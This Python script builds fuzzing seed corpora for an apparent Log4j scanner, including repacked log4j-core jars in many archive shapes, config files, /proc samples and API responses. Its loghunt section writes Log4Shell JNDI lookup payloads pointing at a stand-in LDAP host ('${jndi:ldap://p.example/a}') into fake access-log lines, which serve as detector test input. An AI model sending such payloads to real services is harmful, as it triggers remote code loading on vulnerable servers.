#!/usr/bin/env python3
"""fuzz-seeds.py - build the fuzzers' seed corpora from ../shared/corpus.

Usage: fuzz-seeds.py CORPUS OUTDIR
Writes OUTDIR/seeds-zip, OUTDIR/seeds-zipstream, OUTDIR/seeds-classfile,
OUTDIR/seeds-rules and OUTDIR/seeds-tar.
Seeds are built at run time (nothing binary is committed) and kept small
(a few KiB each) so that libFuzzer's mutations stay fast:
  zip:       small corpus jars as they are, and mini jars re-packed from the
             evidence entries of real log4j-core releases (pom.properties,
             manifest, the fingerprinted classes) in every shape the reader
             handles: DEFLATED, STORED, ZIP64, prepended script, data
             descriptors, a STORED nested jar, an encrypted-flag entry;
             and 60 mini jars in the shapes of the JDK differential test
             (zipshapes.py: wrong counts, disk numbers, fake end records,
             ZIP64 locators that lead nowhere, local headers the central
             directory does not list, data descriptors STORED and DEFLATED,
             lying local sizes, entries the JDK refuses...);
  zipstream: the same 60 shapes (the harness streams them as a nested jar)
             and the streamed mini jars;
  classfile: the fingerprinted classes of several releases, plus a minimal
             hand-made class;
  rules:     the real rules file, and each of its sections on its own;
  tar:       a mini jar in a tar in every compression, a tar in a tar.gz,
             exploded classes in a tar, a `docker save` image with a
             whiteout layer, an OCI layout tarball with a gzip layer, and the
             shapes of issue 16: a jmod, an executable jar without a name, a
             hard link to a jar, relocated exploded classes, a zip holding a
             tar.gz, a tar.gz followed by a jar;
  sniff:     heads of every kind the sniffer tells (zip, jmod, gzip, xz,
             zstd, bzip2, ustar, #!, ELF and PE with and without data after
             their image) and the seed jars;
and, from what the built agent ($L4S_AGENT, default build/log4scan)
really produces when it is there (issue 23: a harness without seeds never
got past the report envelope):
  report:    the JSON reports of `scan` over each seed jar, tar and image,
             of `logs` over the loghunt seeds, of `ps`, plus fuzz/seeds/report;
  cache:     the cache file `scan --cache` writes for each of those scans;
  config:    dist/agent.conf.example uncommented, and one file per option
             kind of `scan` (flag, optional value, value, quoted, repeated);
  proc:      this process's own /proc cmdline, maps, cgroup and the host's
             net/tcp, tcp6, udp, udp6, plus JVM command lines with every
             mitigation the parser knows and the cgroup lines of docker,
             containerd, CRI-O, podman, kubepods and LXC;
  submit:    the collector's answers as api_ingest.c writes them (accepted,
             duplicate, known, errors) and spool file names;
  login:     login bodies, and the query strings the API tests send."""
import gzip
import hashlib
import io
import json
import lzma
import os
import re
import struct
import subprocess
import sys
import tarfile
import zipfile

CORPUS, OUT = sys.argv[1].rstrip("/"), sys.argv[2]
TOP = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
KEYS = ("lookup/JndiLookup.class", "net/JndiManager.class", "lookup/Interpolator.class",
        "pattern/MessagePatternConverter.class", "pom.properties", "META-INF/MANIFEST.MF")
RELEASES = ["log4j-samples/true-hits/log4j-core-2.14.1.jar", "log4j-samples/false-hits/log4j-core-2.17.0.jar",
            "log4j-samples/false-hits/log4j-core-2.12.2.jar", "log4j-samples/old-hits/log4j-core-2.0-beta2.jar",
            "log4j-samples/false-hits/log4j-core-2.3.2.jar"]
SMALL = ["google-testdata/vuln-class.jar", "google-testdata/helloworld-executable", "google-testdata/emptydir.zip",
         "google-testdata/notarealjar.jar", "google-testdata/zipbombs/r.zip", "google-testdata/corrupt.jar",
         "google-testdata/bad_jar_in_jar.jar", "google-testdata/helloworld.signed.jar"]


def mkdir(d):
    os.makedirs(d, exist_ok=True)
    return d


def evidence(jar):
    """(name, bytes) of the evidence entries of a release jar, with classes
    reduced to the fingerprinted ones."""
    out = []
    with zipfile.ZipFile(os.path.join(CORPUS, jar)) as z:
        for n in z.namelist():
            if n.endswith(KEYS) and ("log4j-core" in n or n.endswith(".class") or n.startswith("META-INF/MAN")):
                out.append((n, z.read(n)))
    return out


def pack(entries, method=zipfile.ZIP_DEFLATED, zip64=False):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        for n, data in entries:
            with z.open(zipfile.ZipInfo(n), "w", force_zip64=zip64) as f:
                f.write(data)
    return b.getvalue()


class Unseekable(io.RawIOBase):
    def __init__(self):
        self.b = bytearray()

    def writable(self):
        return True

    def write(self, d):
        self.b += d
        return len(d)


def pack_streamed(entries):
    """Written to a non-seekable stream: every entry has a data descriptor."""
    s = Unseekable()
    with zipfile.ZipFile(s, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in entries:
            z.writestr(n, data)
    return bytes(s.b)


def detector_seeds(zd, cd):
    """Shapes the detector decides on: Log4j 1.x's Category, the bridges'
    (which refer to another logging API), reload4j-like fixes, and mini jars
    holding a 1.x copy beside Log4j 2 classes, an agent's .classdata copy
    with a stray, and a pom that names no release."""
    l1 = {"1.2.17": "log4j-samples/old-hits/log4j-1.2.17.jar",
          "debian": "debian/liblog4j1.2-java_1.2.17-11/log4j-1.2-1.2.17.jar",
          "bridge": "log4j-samples/false-hits/log4j-1.2-api-2.12.1.jar",
          "overslf4j": "log4j-samples/false-hits/log4j-over-slf4j-1.7.32.jar"}
    picks = ("org/apache/log4j/Category.class", "org/apache/log4j/net/JMSAppender.class",
             "org/apache/log4j/chainsaw/LoggingReceiver$Slurper.class", "org/apache/log4j/helpers/OptionConverter.class")
    got = {}
    for k, jar in l1.items():
        p = os.path.join(CORPUS, jar)
        if not os.path.exists(p):
            continue
        with zipfile.ZipFile(p) as z:
            for n in z.namelist():
                if n in picks:
                    got[(k, n)] = z.read(n)
                    open(os.path.join(cd, "%s-%s" % (k, n.split("/")[-1].replace("$", "_"))), "wb").write(got[(k, n)])
    core = os.path.join(CORPUS, RELEASES[0])
    if not os.path.exists(core):
        return
    ev = [(n, d) for n, d in evidence(RELEASES[0]) if len(d) < 8192]
    l1e = [(n, d) for (k, n), d in got.items() if k == "1.2.17"]
    open(os.path.join(zd, "fat-1x-beside-core.jar"), "wb").write(pack(ev + l1e))
    br = [(n, d) for (k, n), d in got.items() if k == "bridge"]
    open(os.path.join(zd, "bridge-beside-jmsappender.jar"), "wb").write(
        pack(br + [(n, d) for n, d in l1e if "JMSAppender" in n]))
    agent = [("agent/" + n[:-6] + ".classdata" if n.endswith(".class") else n, d) for n, d in ev]
    open(os.path.join(zd, "agent-classdata.jar"), "wb").write(
        pack(agent + [(n, d) for n, d in ev if n.endswith("JndiLookup.class")]))
    lying = [(n, b"version=2.17.3\n" if n.endswith("pom.properties") else d) for n, d in ev]
    open(os.path.join(zd, "pom-vendor-version.jar"), "wb").write(pack(lying))


def manifest_seeds(out):
    """Backup manifests as `log4scan fix` writes them: files, exploded
    directories, every state line, escaped names, a line cut by a crash."""
    md = mkdir(out + "/seeds-manifest")
    a, b = "ab" * 32, "cd" * 32
    head = "# log4scan backup manifest 1 (see `log4scan restore --help`)\n"
    fix = "fix\t20240101T000000Z-42-1-app.jar\t1704067200\t/srv/app.jar\t20240101T000000Z-42-1-app.jar\t" \
          "%s\t%s\t0\t0\t644\t1600000000\t123456789\n" % (a, b)
    d = "dir\t20240101T000000Z-42-2-classes\t1704067200\t/srv/web/WEB-INF/classes\t" \
        "20240101T000000Z-42-2-classes\t2\n" \
        "dirfile\t20240101T000000Z-42-2-classes\torg/apache/logging/log4j/core/lookup/JndiLookup.class\t" \
        "%s\t2937\t0\t0\t644\t1615068726\t0\n" \
        "dirfile\t20240101T000000Z-42-2-classes\torg/apache/log4j/chainsaw/Main$1.class\t%s\t10\t1000\t1000" \
        "\t600\t1\t2\n" % (a, b)
    esc = "fix\tid-esc\t1\t/srv/t\\tab\\nnew\\x01line\\\\.jar\tid-esc\t%s\t%s\t0\t0\t644\t0\t0\n" % (a, b)
    seeds = {
        "file": head + fix,
        "dir": head + d,
        "states": head + fix + d + "restored\t20240101T000000Z-42-1-app.jar\t1704067300\n"
        "abandoned\t20240101T000000Z-42-2-classes\t1704067300\nforgotten\tx\t1\npruned\ty\t2\n",
        "escaped": head + esc,
        "cut": head + fix + fix[:57],
        "windows": head + fix.replace("/srv/app.jar", "C:\\srv\\app.jar"),
    }
    for n, text in seeds.items():
        open(os.path.join(md, n + ".tsv"), "wb").write(text.encode())


def main():
    manifest_seeds(OUT)
    zd, cd, rd = mkdir(OUT + "/seeds-zip"), mkdir(OUT + "/seeds-classfile"), mkdir(OUT + "/seeds-rules")
    detector_seeds(zd, cd)
    for p in SMALL:
        src = os.path.join(CORPUS, p)
        if os.path.exists(src):
            open(os.path.join(zd, os.path.basename(p)), "wb").write(open(src, "rb").read())
    for jar in RELEASES:
        if not os.path.exists(os.path.join(CORPUS, jar)):
            continue
        ev = evidence(jar)
        base = os.path.basename(jar)[:-4]
        # keep only one class per seed file for classfile; small ones only
        for n, data in ev:
            if n.endswith(".class") and len(data) < 16384:
                open(os.path.join(cd, base + "-" + n.split("/")[-1]), "wb").write(data)
        small = [(n, d) for n, d in ev if len(d) < 8192]
        open(os.path.join(zd, base + "-deflated.jar"), "wb").write(pack(small))
        open(os.path.join(zd, base + "-stored.jar"), "wb").write(pack(small, zipfile.ZIP_STORED))
        open(os.path.join(zd, base + "-zip64.jar"), "wb").write(pack(small[:3], zipfile.ZIP_STORED, True))
        open(os.path.join(zd, base + "-streamed.jar"), "wb").write(pack_streamed(small[:3]))
        open(os.path.join(zd, base + "-prepended"), "wb").write(b"#!/bin/sh\nexec java -jar $0\n" +
                                                                 pack(small[:2]))
        inner = pack(small[:2], zipfile.ZIP_STORED)
        open(os.path.join(zd, base + "-nested.jar"), "wb").write(
            pack([("BOOT-INF/lib/" + base + ".jar", inner)], zipfile.ZIP_STORED))
    # The JDK differential test's shapes, over the evidence of 2.14.1.
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    from zipshapes import Ent, make_case
    sd = mkdir(OUT + "/seeds-zipstream")
    ev = [Ent(n.encode(), d) for n, d in evidence(RELEASES[0]) if len(d) < 8192]
    for i in range(60):
        desc, data, _ = make_case(7, i, {"2.14.1": ev}, many=False)
        if len(data) < 60000:
            for d in (zd, sd):
                open(os.path.join(d, "shape-%02d.jar" % i), "wb").write(data)
    for n in os.listdir(zd):
        if n.endswith("-streamed.jar"):
            open(os.path.join(sd, n), "wb").write(open(os.path.join(zd, n), "rb").read())
    # Nested archives inside the stream (stream_nest): the harness offers
    # entries named "n..." or "...r" when the input's size has bit 1 set, so
    # each seed comes with both sizes (trailing bytes after the end record).
    evn = [(n, d) for n, d in evidence(RELEASES[0]) if len(d) < 8192][:3]
    inner = pack(evn)
    two = pack([("nested/inner.jar", inner), ("x.txt", b"x" * 600)])
    shapes = {"nest-deflated": pack([("a.txt", b"a" * 700), ("nested.jar", inner)]),
              "nest-stored": pack([("nested.jar", inner)], zipfile.ZIP_STORED),
              "nest-descriptor": pack_streamed([("nested.jar", inner), ("b.txt", b"b" * 900)]),
              "nest-two-levels": pack([("n/mid.jar", two)]),
              "nest-unlisted": pack([("nested.jar", inner)])[:-22 - 46 - 10] + pack([("q.txt", b"q")])}
    for n, d in shapes.items():
        for k in range(4):
            if (len(d) + k) & 2:
                open(os.path.join(sd, "%s-%d.jar" % (n, k)), "wb").write(d + b"\0" * k)
                break
    # Issue 16: archives inside zips told by content.
    ev = [(n, d) for n, d in evidence(RELEASES[0]) if len(d) < 8192][:3]
    mini = pack(ev)
    tb = io.BytesIO()
    with tarfile.open(fileobj=tb, mode="w") as t:
        ti = tarfile.TarInfo("app/lib/core.jar")
        ti.size = len(mini)
        t.addfile(ti, io.BytesIO(mini))
    open(os.path.join(zd, "release-with-tgz.zip"), "wb").write(
        pack([("app-1.0.tar.gz", gzip.compress(tb.getvalue())), ("payload", gzip.compress(tb.getvalue()))]))
    open(os.path.join(zd, "with-jmod.zip"), "wb").write(
        pack([("jmods/app", b"JM\x01\x00" + pack([("classes/" + n, d) for n, d in ev]))], zipfile.ZIP_STORED))
    open(os.path.join(zd, "with-exe.zip"), "wb").write(
        pack([("bin/orders-service", b"#!/bin/sh\nexec java -jar $0\n" + mini)]))
    # An entry with the encrypted flag set.
    enc = bytearray(pack([("a.class", b"\xca\xfe\xba\xbe" + bytes(20))], zipfile.ZIP_STORED))
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = enc.find(sig)
        enc[i + off] |= 1
    open(os.path.join(zd, "encrypted.jar"), "wb").write(bytes(enc))
    # A minimal class: pool [Utf8 "A", Class #1], this=2, super=0.
    cls = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + struct.pack(">H", 3) + b"\x01\x00\x01A" + b"\x07\x00\x01" + \
        struct.pack(">HHH", 0x21, 2, 0) + bytes(6)
    open(os.path.join(cd, "minimal.class"), "wb").write(cls)
    rules = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "rules", "log4j.rules"), "rb").read()
    open(os.path.join(rd, "log4j.rules"), "wb").write(rules)
    lines = rules.split(b"\n")
    head = [ln for ln in lines if ln.startswith(b"releases")]
    for i, sect in enumerate(rules.split(b"\n# ---")):
        open(os.path.join(rd, "section-%d.rules" % i), "wb").write(b"\n".join(head) + b"\n" + sect)
    # loghunt: every payload, near miss and status case of the tables, logged
    # in an access-log line; and padding past each bound of the hunter.
    ld = mkdir(OUT + "/seeds-loghunt")
    cases = os.path.join(os.path.dirname(os.path.abspath(__file__)), "cases")
    pads = {"expr-len": "${${" + "x" * 17000 + ":-}jndi:ldap://p.example/a}",
            "msg-len": "$${jndi:ldap://p.example/a}" + " " * 16600 + "${x}",
            "depth": "${lower:" * 140 + "${jndi:ldap://p.example/a}" + "}" * 140,
            "passes": "$" * 600 + "{jndi:ldap://p.example/a}" + "${a}" * 600,
            "unclosed": "${jndi:ldap://p.example/" + "a" * 17000 + "\n}"}
    for name, text in pads.items():
        open(os.path.join(ld, "pad-" + name), "wb").write(("2021-12-10 13:55:36,123 INFO x - %s\n" % text).encode())
    for table in ("logs-payloads.tsv", "logs-near-misses.tsv", "logs-statuses.tsv"):
        for line in open(os.path.join(cases, table), encoding="utf-8"):
            f = line.rstrip("\n").split("\t")
            if line.startswith("#") or len(f) < 2:
                continue
            open(os.path.join(ld, table[5:-4] + "-" + f[0]), "wb").write(
                ('1.2.3.4 - - [10/Dec/2021:13:55:36 +0100] "GET /?q=%s HTTP/1.1" 200 1 "-" "%s"\n'
                 % (f[1], f[1])).encode())


def mktar(entries):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for n, data in entries:
            ti = tarfile.TarInfo(n)
            if data is None:
                ti.type = tarfile.DIRTYPE
                t.addfile(ti)
            else:
                ti.size = len(data)
                t.addfile(ti, io.BytesIO(data))
    return b.getvalue()


def tar_seeds(td):
    import bz2
    ev = [(n, d) for n, d in evidence(RELEASES[0]) if len(d) < 4096][:4]
    mini = pack(ev)
    plain = mktar([("app/lib", None), ("app/lib/log4j-core.jar", mini), ("app/README", b"hi\n")])
    seeds = {"plain.tar": plain, "gz.tar.gz": gzip.compress(plain), "xz.tar.xz": lzma.compress(plain),
             "bz2.tar.bz2": bz2.compress(plain),
             "nested.tar": mktar([("inner.tar.gz", gzip.compress(plain))]),
             "exploded.tar": mktar([("opt/c/" + n, d) for n, d in ev]),
             "log.gz": gzip.compress(b"GET / 200\n" * 20)}
    try:
        seeds["zst.tar.zst"] = subprocess.run(["zstd", "-q", "-c"], input=plain, stdout=subprocess.PIPE,
                                              check=True).stdout
    except (OSError, subprocess.CalledProcessError):
        pass
    l1 = mktar([("opt/lib/log4j-core.jar", mini), ("etc/x", b"x")])
    l2 = mktar([("opt/lib/.wh.log4j-core.jar", b""), ("opt/.wh..wh..opq", b"")])
    cfg = json.dumps({"rootfs": {"diff_ids": ["sha256:" + hashlib.sha256(x).hexdigest() for x in (l1, l2)]}})
    man = json.dumps([{"Config": "c.json", "RepoTags": ["a/b:1"], "Layers": ["1/layer.tar", "2/layer.tar"]}])
    seeds["docker.tar"] = mktar([("2/layer.tar", l2), ("1/layer.tar", l1), ("c.json", cfg.encode()),
                                 ("manifest.json", man.encode())])
    lg = gzip.compress(l1)
    ld = "sha256:" + hashlib.sha256(lg).hexdigest()
    m = json.dumps({"config": {"digest": "sha256:00"}, "layers": [{"digest": ld}]}).encode()
    md = "sha256:" + hashlib.sha256(m).hexdigest()
    idx = json.dumps({"manifests": [{"digest": md, "annotations": {"org.opencontainers.image.ref.name": "1"}}]})
    seeds["oci.tar"] = mktar([("blobs/sha256/" + ld[7:], lg), ("blobs/sha256/" + md[7:], m),
                              ("index.json", idx.encode()), ("oci-layout", b"{}")])
    # issue 16: content, not names; hard links; relocated classes
    jmod = b"JM\x01\x00" + pack([("classes/" + n, d) for n, d in ev])
    exe = b"#!/bin/sh\nexec java -jar $0\n" + mini
    reloc = [("opt/c/com/acme/" + n.split("org/apache/logging/log4j/", 1)[-1], d) for n, d in ev]
    seeds["jmod.tar"] = mktar([("jmods/app.jmod", jmod)])
    seeds["exe.tar"] = mktar([("bin/orders-service", exe)])
    seeds["reloc.tar"] = mktar(reloc)
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.USTAR_FORMAT) as t:
        ti = tarfile.TarInfo("lib/a.jar")
        ti.size = len(mini)
        t.addfile(ti, io.BytesIO(mini))
        ln = tarfile.TarInfo("lib/b.jar")
        ln.type, ln.linkname = tarfile.LNKTYPE, "lib/a.jar"
        t.addfile(ln)
    seeds["hardlink.tar"] = b.getvalue()
    seeds["installer.tar.gz"] = gzip.compress(plain) + mini
    seeds["zip-in-tar.tar"] = mktar([("release.zip", pack([("app.tar.gz", gzip.compress(plain))],
                                                           zipfile.ZIP_STORED))])
    # nested archives inside a streamed one (the harness streams every
    # member over 2 KiB when the input's size is even): a fat jar holding a
    # DEFLATED jar, named or not, with a data descriptor, two levels down
    two = pack([("BOOT-INF/lib/core.jar", mini), ("pad.bin", os.urandom(2500))])
    seeds["fat-nested.tar"] = mktar([("opt/app.jar", pack([("BOOT-INF/lib/core.jar", mini),
                                                            ("pad.bin", os.urandom(2500))]))])
    seeds["fat-unnamed.tar"] = mktar([("opt/app.jar", pack([("BOOT-INF/lib/blob", mini),
                                                            ("pad.bin", os.urandom(2500))]))])
    seeds["fat-descriptor.tar"] = mktar([("opt/app.jar", pack_streamed([("lib/core.jar", mini),
                                                                        ("pad.bin", os.urandom(2500))]))])
    seeds["fat-two.tar.gz"] = gzip.compress(mktar([("opt/app.jar", pack([("lib/mid.jar", two)]))]))
    seeds["fat-tgz-in.tar"] = mktar([("opt/app.jar", pack([("rel/app.tar.gz", gzip.compress(plain)),
                                                           ("pad.bin", os.urandom(2500))]))])
    for n, d in seeds.items():
        if n.startswith("fat-") and len(d) & 1:
            d += b"\0" * 512  # an even size: streamed
        open(os.path.join(td, n), "wb").write(d)
    return seeds


def sniff_seeds(sd, tar):
    elf = bytearray(64)
    elf[:7] = b"\x7fELF\x02\x01\x01"
    struct.pack_into("<QQ", elf, 0x20, 64, 4096)  # phoff, shoff
    struct.pack_into("<HHHH", elf, 0x36, 56, 1, 64, 3)
    pe = bytearray(512)
    pe[:2] = b"MZ"
    struct.pack_into("<I", pe, 0x3C, 0x80)
    pe[0x80:0x84] = b"PE\0\0"
    struct.pack_into("<HH", pe, 0x84 + 2, 1, 0)
    struct.pack_into("<H", pe, 0x84 + 16, 0xE0)
    heads = {"elf": bytes(elf) + bytes(4096 + 192 - 64) + b"PK\x05\x06" + bytes(18), "pe": bytes(pe),
             "script": b"#!/bin/sh\necho hi\n" + bytes(100), "jmod": b"JM\x01\x00PK\x03\x04" + bytes(40)}
    for n, d in list(tar.items())[:12]:
        heads["tar-" + n] = d[:4096]
    for n, d in heads.items():
        open(os.path.join(sd, n), "wb").write(d)




def run_agent(args, timeout=120):
    """The agent's standard output for args, or None."""
    agent = os.environ.get("L4S_AGENT") or os.path.join(TOP, "build", "log4scan")
    if not os.access(agent, os.X_OK):
        return None
    try:
        p = subprocess.run([agent] + args, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=timeout)
    except (OSError, subprocess.TimeoutExpired):
        return None
    return p.stdout if p.stdout else None


def report_and_cache_seeds():
    rd, cd = mkdir(OUT + "/seeds-report"), mkdir(OUT + "/seeds-cache")
    committed = os.path.join(TOP, "fuzz", "seeds", "report")
    for n in sorted(os.listdir(committed)) if os.path.isdir(committed) else []:
        open(os.path.join(rd, "committed-" + n), "wb").write(open(os.path.join(committed, n), "rb").read())
    targets = []
    for d in ("seeds-zip", "seeds-tar"):
        for n in sorted(os.listdir(os.path.join(OUT, d))):
            if not n.startswith("shape-"):
                targets.append(os.path.join(OUT, d, n))
    import shutil
    for i, t in enumerate(targets[:40]):
        # a directory holding the file: the cache keeps what a walk found
        work = os.path.join(OUT, "work-%d" % i)
        shutil.rmtree(work, ignore_errors=True)
        os.makedirs(work)
        shutil.copy(t, work)
        cache = work + ".cache"
        if os.path.exists(cache):
            os.unlink(cache)
        out = run_agent(["scan", "--no-config", "--format", "json", "--tag", "fuzz", "--cache=" + cache, work])
        shutil.rmtree(work, ignore_errors=True)
        if out and len(out) < 32768:
            open(os.path.join(rd, "scan-%s.ndjson" % os.path.basename(t)), "wb").write(out)
        if os.path.exists(cache) and os.path.getsize(cache) < 32768:
            open(os.path.join(cd, "scan-%s.cache" % os.path.basename(t)), "wb").write(open(cache, "rb").read())
            os.unlink(cache)
    logs = sorted(os.listdir(os.path.join(OUT, "seeds-loghunt")))
    for n in logs[:: max(1, len(logs) // 12)]:
        out = run_agent(["logs", "--no-config", "--format", "json", os.path.join(OUT, "seeds-loghunt", n)])
        if out and len(out) < 32768:
            open(os.path.join(rd, "logs-%s.ndjson" % n), "wb").write(out)
    out = run_agent(["ps", "--no-config", "--format", "json"])
    if out and len(out) < 32768:
        open(os.path.join(rd, "ps.ndjson"), "wb").write(out)


def config_seeds():
    d = mkdir(OUT + "/seeds-config")
    ex = open(os.path.join(TOP, "dist", "agent.conf.example")).read()
    open(os.path.join(d, "example.conf"), "w").write(ex)
    open(os.path.join(d, "example-on.conf"), "w").write(
        "\n".join(ln[1:] if ln.startswith("#") and "=" in ln and not ln.startswith("# ") else ln
                  for ln in ex.splitlines()) + "\n")
    kinds = {"flags": "one-file-system = yes\nfollow no\nquiet = on\n",
             "optional": "cache = yes\ncache /var/tmp/l4s.cache\ncache = no\n",
             "values": "threads = 2\nmax-cpu 50\nformat = json\nexclude = /srv/cache\nexclude /var/lib/docker/*\n",
             "quoted": 'output = "/var/lib/log4scan/last scan.json"\ntag = "a b"\n',
             "crlf": "threads = 2\r\n  # indented comment\r\n\t\r\nfail-on=high\r\n",
             "errors": "no-such-option = 1\n", "flag-value": "one-file-system = maybe\n",
             "empty-value": "exclude =\n"}
    for n, t in kinds.items():
        open(os.path.join(d, n + ".conf"), "w").write(t)


def proc_seeds():
    d = mkdir(OUT + "/seeds-proc")
    for name, path in (("self-cmdline", "/proc/self/cmdline"), ("self-maps", "/proc/self/maps"),
                       ("self-cgroup", "/proc/self/cgroup"), ("net-tcp", "/proc/net/tcp"),
                       ("net-tcp6", "/proc/net/tcp6"), ("net-udp", "/proc/net/udp"),
                       ("net-udp6", "/proc/net/udp6")):
        try:
            data = open(path, "rb").read()[:16384]
        except OSError:
            continue
        open(os.path.join(d, name), "wb").write(data)
    jvms = {
        "java-jar": ["java", "-Xmx1g", "-Dlog4j2.formatMsgNoLookups=true", "-jar", "/srv/app.jar", "--port", "8080"],
        "java-main": ["/usr/lib/jvm/java-17/bin/java", "-cp", "/opt/a.jar:/opt/lib/*", "-DLOG4J_FORMAT_MSG_NO_LOOKUPS=true",
                      "-Dlog4j2.enableJndiLookup=false", "-javaagent:/opt/log4jhotpatch.jar", "org.acme.Main", "x"],
        "java-module": ["java", "--module-path", "/opt/mods", "-m", "org.acme/org.acme.Main", "@/tmp/args"],
        "java-module2": ["java", "--add-opens", "a/b=ALL", "--module=org.acme/x.Y", "-javaagent:/x/jndi-be-gone.jar"],
        "java-enable": ["java", "-Dlog4j2.enableJndi=true", "-Dlog4j.format.msg.no.lookups=TRUE", "Main"],
    }
    for n, argv in jvms.items():
        open(os.path.join(d, n), "wb").write(b"\0".join(a.encode() for a in argv) + b"\0")
    open(os.path.join(d, "maps-jvm"), "w").write(
        "7f0000000000-7f0000001000 r--s 00000000 fd:01 1234567                    /opt/app/lib/log4j-core-2.14.1.jar\n"
        "7f0000002000-7f0000003000 r--s 00000000 fd:01 1234568                    /srv/app.war (deleted)\n"
        "7f0000004000-7f0000005000 r-xp 00000000 fd:01 222                        /usr/lib/jvm/java-8/jre/lib/amd64/server/libjvm.so\n"
        "7ffd00000000-7ffd00021000 rw-p 00000000 00:00 0                          [stack]\n")
    h = "0123456789abcdef" * 4
    cg = {"docker": "0::/system.slice/docker-%s.scope\n" % h, "docker-v1": "12:pids:/docker/%s\n" % h,
          "containerd": "0::/kubepods.slice/kubepods-pod1.slice/cri-containerd-%s.scope\n" % h,
          "crio": "0::/kubepods/burstable/pod1/crio-%s.scope\n" % h, "podman": "0::/machine.slice/libpod-%s.scope\n" % h,
          "kubepods": "11:memory:/kubepods/besteffort/pod0/%s\n" % h, "lxc": "0::/lxc/web1/init.scope\n",
          "lxc-payload": "0::/lxc.payload.web2/system.slice\n", "host": "0::/user.slice/user-1000.slice/session-1.scope\n"}
    for n, t in cg.items():
        open(os.path.join(d, "cgroup-" + n), "w").write(t)


def submit_seeds():
    d = mkdir(OUT + "/seeds-submit")
    rid = "6f1c0e2a-1b2c-4d3e-8f40-112233445566"
    answers = {
        "accepted": '{"accepted":true,"report_id":"%s","duplicate":false,"device_id":12}\n' % rid,
        "duplicate": '{"accepted":true,"report_id":"%s","duplicate":true,"device_id":12}\n' % rid,
        "known": '{"known":["%s","00000000-0000-4000-8000-000000000000"]}\n' % rid,
        "known-upper": '{"known":["ABCDEF01-2345-4678-9ABC-DEF012345678"]}\n',
        "known-empty": '{"known":[]}\n',
        "error-400": '{"error":"line 3: \\"kind\\" is missing"}\n',
        "error-401": '{"error":"unknown token"}\n',
        "error-413": '{"error":"report larger than 16777216 bytes"}\n',
        "error-escapes": '{"error":"a\\tb\\nc\\\\d\\u0001"}\n',
        "proxy-html": "<html><body><h1>502 Bad Gateway</h1></body></html>\n",
        "spool-names": "0001733390000000001-%s.ndjson\n0001733390000000002-%s.ndjson.tmp\nREADME\n" % (rid, rid),
    }
    for n, t in answers.items():
        open(os.path.join(d, n), "w").write(t)


def login_seeds():
    d = mkdir(OUT + "/seeds-login")
    bodies = {"login": '{"user":"admin","password":"pw-sandbox-1"}', "login-unicode": '{"user":"\\u00e9mile","password":"p\\u00e4ss"}',
              "login-extra": '{"user":"a","password":"b","remember":true}', "login-number": '{"user":1,"password":"x"}',
              "login-long": '{"user":"%s","password":"x"}' % ("u" * 300)}
    for n, t in bodies.items():
        open(os.path.join(d, n), "w").write(t)
    qs = set()
    for f in sorted(os.listdir(os.path.dirname(os.path.abspath(__file__)))):
        if f.endswith(".py"):
            text = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), f), errors="replace").read()
            for m in re.finditer(r'"/api/v1/[a-z/]*\?([^"]*)"', text):
                qs.add(m.group(1).replace("%d", "12").replace("%s", "ab" * 32))
    qs.add("ids=6f1c0e2a-1b2c-4d3e-8f40-112233445566,00000000-0000-4000-8000-000000000000")
    qs.add("limit=500&offset=1000&page=3&days=30&format=csv&q=%E2%82%AC%20x+y")
    for i, q in enumerate(sorted(qs)):
        open(os.path.join(d, "query-%02d" % i), "w").write(q)


def real_seeds():
    config_seeds()
    proc_seeds()
    submit_seeds()
    login_seeds()
    report_and_cache_seeds()


main()
sniff_seeds(mkdir(OUT + "/seeds-sniff"), tar_seeds(mkdir(OUT + "/seeds-tar")))
real_seeds()


def facts_seeds(d):
    """facts: the text forms a scan of the corpus writes (docs/schema.md)."""
    seeds = ["v1", "v1 set=", "v1 set=2.14.0..2.14.1 +lookup/JndiLookup",
             "v1 set=2.0-beta9..2.3.1,2.4..2.12.1 pom=2.14.1 mf? -lookup/JndiLookup",
             "v1 pom=1.2.17 mf=1.2.17 +net/SocketServer -net/HardenedObjectInputStream +net/JMSAppender "
             "+chainsaw/ !net/JMSAppender>net/JNDIUtil @chainsaw/LoggingReceiver$Slurper>net/X",
             "v1 pom? mf=2.17.1.redhat-00001 set=2.17.1"]
    for i, s in enumerate(seeds):
        open(os.path.join(d, "facts-%d" % i), "w").write(s)


facts_seeds(mkdir(OUT + "/seeds-facts"))
